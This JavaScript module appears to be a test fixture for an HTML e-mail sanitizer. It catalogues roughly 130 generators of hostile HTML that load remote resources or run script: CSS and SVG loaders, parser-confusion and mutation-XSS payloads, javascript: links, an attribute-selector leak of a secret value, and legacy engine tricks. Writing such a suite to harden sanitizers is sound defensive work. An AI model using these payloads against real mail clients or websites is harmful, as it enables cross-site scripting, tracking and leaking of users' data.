// Hostile mail. Each vector is HTML that, undefended, calls a server or runs a script by itself.
//
// `url` is where it should call; `js` a script that calls there and tells the page around it. `click` means: once
// what has the id `go` is clicked. `old` marks what no longer works in this engine but did in another.

const svgFile = (url) =>
  `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${url}" width="9" height="9"/></svg>`)}`;
const entities = (text) => [...text].map((sign) => `&#${sign.codePointAt(0)};`).join("");
const cssEscaped = (text) => [...text].map((sign) => `\\${sign.codePointAt(0).toString(16)} `).join("");

/** What calls a server, without any script. */
const calls = {
  "img src": ({ url }) => `<img src="${url}">`,
  "img src in capitals without quotes": ({ url }) => `<IMG SRC=${url}>`,
  "img with slashes for spaces": ({ url }) => `<img/alt=""/src="${url}">`,
  "img address in entities": ({ url }) => `<img src="${entities(url)}">`,
  "img address with line breaks": ({ url }) => `<img src="ht\n\ttp:${url.slice(5, 9)}\n${url.slice(9)}">`,
  "img address without scheme": ({ url }) => `<img src="${url.slice(5)}">`,
  "img address with backslashes": ({ url }) => `<img src="http:\\\\${url.slice(7)}">`,
  "img address with leading control characters": ({ url }) => `<img src="&#1;&#32;${url}">`,
  "img of the old name": ({ url }) => `<image src="${url}">`,
  "img srcset": ({ url }) => `<img srcset="${url} 1x, ${url}?2 2x">`,
  "picture source": ({ url }) => `<picture><source srcset="${url}"><img alt=""></picture>`,
  "img below an unknown element": ({ url }) => `<o:p><v:x><img src="${url}"></v:x></o:p>`,
  "input image": ({ url }) => `<form><input type="image" src="${url}"></form>`,
  "video poster": ({ url }) => `<video poster="${url}"></video>`,
  "video src": ({ url }) => `<video src="${url}" autoplay muted></video>`,
  "audio source": ({ url }) => `<audio preload="auto"><source src="${url}"></audio>`,
  "iframe src": ({ url }) => `<iframe src="${url}"></iframe>`,
  "iframe srcdoc": ({ url }) => `<iframe srcdoc="<img src='${url}'>"></iframe>`,
  "iframe srcdoc in entities": ({ url }) => `<iframe srcdoc="${entities(`<img src="${url}">`)}"></iframe>`,
  "iframe with a data document": ({ url }) =>
    `<iframe src="data:text/html,${encodeURIComponent(`<img src="${url}">`)}"></iframe>`,
  "object data": ({ url }) => `<object data="${url}"></object>`,
  "object with a data document": ({ url }) =>
    `<object data="data:text/html,${encodeURIComponent(`<img src="${url}">`)}"></object>`,
  "object with an svg that loads": ({ url }) =>
    `<object type="image/svg+xml" data="${svgFile(url)}"></object>`,
  "embed src": ({ url }) => `<embed src="${url}">`,
  "frameset frame": ({ url }) => `</body><frameset><frame src="${url}"></frameset>`,
  "link stylesheet": ({ url }) => `<link rel="stylesheet" href="${url}">`,
  "link stylesheet in data that imports": ({ url }) =>
    `<link rel="stylesheet" href="data:text/css,@import '${url}';">`,
  "link preload": ({ url }) => `<link rel="preload" as="image" href="${url}">`,
  "link prefetch": ({ url }) => `<link rel="prefetch" href="${url}">`,
  "link modulepreload": ({ url }) => `<link rel="modulepreload" href="${url}">`,
  "link imagesrcset": ({ url }) => `<link rel="preload" as="image" imagesrcset="${url} 1x">`,
  "base and a relative picture": ({ url }) => `<base href="${url}/"><img src="x">`,
  "meta refresh": ({ url }) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  "meta refresh in quotes and capitals": ({ url }) =>
    `<META HTTP-EQUIV="Refresh" CONTENT="0 , URL='${url}'">`,
  "meta refresh below svg": ({ url }) =>
    `<svg><foreignObject><meta http-equiv="refresh" content="0;url=${url}">`,
  "body background": ({ url }) => `<body background="${url}">`,
  "table background": ({ url }) => `<table background="${url}"><tr><td>1</table>`,
  "cell background": ({ url }) => `<table><tr><td background="${url}">1</table>`,
  "style attribute": ({ url }) => `<p style="background:url(${url})">1`,
  "style attribute with an escaped url": ({ url }) => `<p style="background:u\\72l('${url}')">1`,
  "style attribute with an escaped address": ({ url }) => `<p style="background:url(${cssEscaped(url)})">1`,
  "style attribute in entities": ({ url }) => `<p style="${entities(`background:url(${url})`)}">1`,
  "style image-set": ({ url }) => `<p style="background-image:image-set('${url}' 1x)">1`,
  "style -webkit-image-set": ({ url }) => `<p style="background-image:-webkit-image-set(url('${url}') 1x)">1`,
  "style border-image": ({ url }) => `<p style="border:1px solid;border-image:url(${url}) 1">1`,
  "style list-style": ({ url }) => `<ul><li style="list-style-image:url(${url})">1</ul>`,
  "style content": ({ url }) => `<p style="content:url(${url})">1`,
  "style mask": ({ url }) => `<p style="-webkit-mask-image:url(${url});mask-image:url(${url})">1`,
  "style filter": ({ url }) => `<p style="filter:url(${url}#a)">1`,
  "style variable": ({ url }) => `<p style="--a:url(${url});background:var(--a)">1`,
  "style element": ({ url }) => `<style>p{background:url(${url})}</style><p>1`,
  "style element with comments": ({ url }) =>
    `<style>p{background:/**/url(/**/"${url}"/**/)}p{background:url("${url}")}</style><p>1`,
  "style @import": ({ url }) => `<style>@import "${url}";</style>`,
  "style @import escaped": ({ url }) => `<style>@\\69mport url(${url}) screen;</style>`,
  "style @import with a layer": ({ url }) => `<style>@import url("${url}") layer(a);</style>`,
  "style @font-face": ({ url }) =>
    `<style>@font-face{font-family:a;src:url(${url})}p{font-family:a}</style><p>1`,
  "style below @media": ({ url }) =>
    `<style>@media all{@supports(display:block){p{background:url(${url})}}}</style><p>1`,
  "style that reads an attribute": ({ url }) =>
    `<style>input[value^="s"]{background:url(${url})}</style><input value="secret">`,
  "style ::before": ({ url }) => `<style>p::before{content:url(${url})}</style><p>1`,
  "style keyframes": ({ url }) =>
    `<style>@keyframes a{from,to{background:url(${url})}}p{animation:a 9s infinite}</style><p>1`,
  "style nested": ({ url }) => `<style>div{& p{background:url(${url})}}</style><div><p>1</div>`,
  "style @property": ({ url }) =>
    `<style>:root{--u:url(${url})}p{background-image:var(--no,var(--u))}</style><p>1`,
  "style in the head": ({ url }) =>
    `<html><head><style>html{background:url(${url})}</style></head><body>1</body></html>`,
  "style in svg": ({ url }) => `<svg><style>@import "${url}";</style></svg>`,
  "svg image": ({ url }) => `<svg><image href="${url}" width="9" height="9"/></svg>`,
  "svg image with xlink": ({ url }) => `<svg><image xlink:href="${url}" width="9" height="9"/></svg>`,
  "svg feImage": ({ url }) =>
    `<svg><filter id="f"><feImage href="${url}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
  "svg set": ({ url }) =>
    `<svg><image width="9" height="9"><set attributeName="href" to="${url}"/></image></svg>`,
  "svg animate": ({ url }) =>
    `<svg><image width="9" height="9"><animate attributeName="href" values="${url}" dur="9s"/></image></svg>`,
  "svg fill of another place": ({ url }) => `<svg><rect width="9" height="9" fill="url(${url}#a)"/></svg>`,
  "svg use of another place": ({ url }) => `<svg><use href="${url}#a"/></svg>`,
  "svg foreignObject": ({ url }) =>
    `<svg><foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${url}"/></foreignObject></svg>`,
  "comment closed early": ({ url }) => `<!--><img src="${url}">-->`,
  "comment closed with a bang": ({ url }) => `<!-- --!><img src="${url}"> -->`,
  "cdata outside of svg": ({ url }) => `<![CDATA[ > <img src="${url}"> ]]>`,
  "textarea closed in an attribute": ({ url }) => `<textarea><p title="</textarea><img src='${url}'>">`,
  "title closed in an attribute": ({ url }) => `<title><p title="</title><img src='${url}'>">`,
  "style closed in an attribute": ({ url }) => `<style><p title="</style><img src='${url}'>">`,
  "noscript closed in an attribute": ({ url }) => `<noscript><p title="</noscript><img src='${url}'>">`,
  "xmp closed in an attribute": ({ url }) => `<xmp><p title="</xmp><img src='${url}'>">`,
  "template with a shadow root": ({ url }) =>
    `<div><template shadowrootmode="open"><img src="${url}"></template></div>`,
  "unclosed elements": ({ url }) => `<table><tr><a><b><div><td><select><p></select><img src="${url}">`,
};

/** What runs a script. */
const scripts = {
  script: ({ js }) => `<script>${js}</script>`,
  "script in halves": ({ js }) => `<scr<script></script>ipt></script><script>${js}</script>`,
  "script src": ({ url }) => `<script src="${url}"></script>`,
  "script module": ({ js }) => `<script type="module">${js}</script>`,
  "script in svg": ({ js }) => `<svg><script>${js}</script></svg>`,
  "script href in svg": ({ url }) => `<svg><script href="${url}"></script></svg>`,
  "img onerror": ({ js }) => `<img src="data:," onerror="${js}">`,
  "img onerror in entities": ({ js }) => `<img src="data:,"onerror="${entities(js)}">`,
  "svg onload": ({ js }) => `<svg onload="${js}">`,
  "svg onbegin": ({ js }) => `<svg><animate onbegin="${js}" attributeName="x" dur="1s"/></svg>`,
  "body onload": ({ js }) => `<body onload="${js}">`,
  "style onload": ({ js }) => `<style onload="${js}">p{}</style>`,
  "details ontoggle": ({ js }) => `<details open ontoggle="${js}">1</details>`,
  "video source onerror": ({ js }) => `<video><source onerror="${js}" src="data:,"></video>`,
  "unknown element with an animation": ({ js }) =>
    `<style>@keyframes a{}</style><x style="animation:a 1s" onanimationstart="${js}">1</x>`,
  "iframe onload": ({ js }) => `<iframe onload="${js}"></iframe>`,
  "iframe to javascript": ({ js }) => `<iframe src="javascript:${js}"></iframe>`,
  "iframe to javascript in entities": ({ js }) =>
    `<iframe src="java&#9;script&colon;${entities(js)}"></iframe>`,
  "iframe srcdoc script": ({ js }) =>
    `<iframe srcdoc="<script>${js.replace("parent", "top")}</script>"></iframe>`,
  "object to javascript": ({ js }) =>
    `<object data="data:text/html,<script>${encodeURIComponent(js.replace("parent", "top"))}</script>"></object>`,
  "math with a mutating style": ({ js }) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=data:, onerror=${entities(js)}&gt;"><img src="data:," onerror="${js}">`,
  "svg with a mutating style": ({ js }) =>
    `<svg></p><style><a id="</style><img src='data:,' onerror=&quot;${js}&quot;>"></style></svg><img src="data:," onerror="${js}">`,
  "link to javascript": { click: ({ js }) => `<a id="go" href="javascript:${js}">1</a>` },
  "link to javascript in pieces": {
    click: ({ js }) => `<a id="go" href="&#1;jAva&Tab;scr&NewLine;ipt:${js}">1</a>`,
  },
  "link in svg to javascript": {
    click: ({ js }) => `<svg><a href="javascript:${js}"><text id="go" y="20">1</text></a></svg>`,
  },
  "link animated to javascript": {
    click: ({ js }) =>
      `<svg><a><set attributeName="href" to="javascript:${js}"/><text id="go" y="20">1</text></a></svg>`,
  },
  "form to javascript": {
    click: ({ js }) => `<form action="javascript:${js}"><button id="go">1</button></form>`,
  },
  "form to a server": {
    click: ({ url }) =>
      `<form action="${url}"><input name="a" value="secret"><button id="go">1</button></form>`,
  },
  "button with its own action": {
    click: ({ url }) => `<form><button id="go" formaction="${url}" formmethod="post">1</button></form>`,
  },
  "link with a ping": { click: ({ url }) => `<a id="go" href="#x" ping="${url}">1</a>` },
  "button onclick": { click: ({ js }) => `<button id="go" onclick="${js}">1</button>` },
};

/** What other engines ran once; there is no control for it, so it counts only as what must be silent. */
const old = {
  "form in a form": ({ js }) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src="data:," onerror="${js}">`,
  "marquee onstart": ({ js }) => `<marquee onstart="${js}">1</marquee>`,
  bgsound: ({ url }) => `<bgsound src="${url}">`,
  "img dynsrc and lowsrc": ({ url }) => `<img dynsrc="${url}" lowsrc="${url}">`,
  "style expression": ({ js }) => `<p style="width:expression(${js})">1`,
  "style behavior": ({ url }) => `<p style="behavior:url(${url});-moz-binding:url(${url}#a)">1`,
  "img to javascript": ({ js }) => `<img src="javascript:${js}">`,
  "layer and ilayer": ({ url }) => `<layer src="${url}"></layer><ilayer src="${url}"></ilayer>`,
  applet: ({ url }) => `<applet code="a" archive="${url}" codebase="${url}"></applet>`,
  "conditional comment": ({ js }) => `<!--[if gte IE 4]><script>${js}</script><![endif]-->`,
  "utf-7": ({ js }) => `<meta charset="utf-7">+ADw-script+AD4-${js}+ADw-/script+AD4-`,
  "html import": ({ url }) => `<link rel="import" href="${url}">`,
  manifest: ({ url }) => `<html manifest="${url}"><p>1`,
};

function list(group, kind) {
  return Object.entries(group).map(([name, make]) => ({
    name,
    kind,
    needsClick: typeof make === "object",
    make: typeof make === "object" ? make.click : make,
  }));
}

/** @type {{ name: string, kind: "live" | "old", needsClick: boolean, make: (to: { url: string, js: string }) => string }[]} */
export const vectors = [...list(calls, "live"), ...list(scripts, "live"), ...list(old, "old")];

/** The HTML of a vector that calls `url`; its script also sends `name` to the page around it. */
export function attack(vector, url) {
  return vector.make({ url, js: `(new Image).src='${url}',parent.postMessage('${url}','*')` });
}
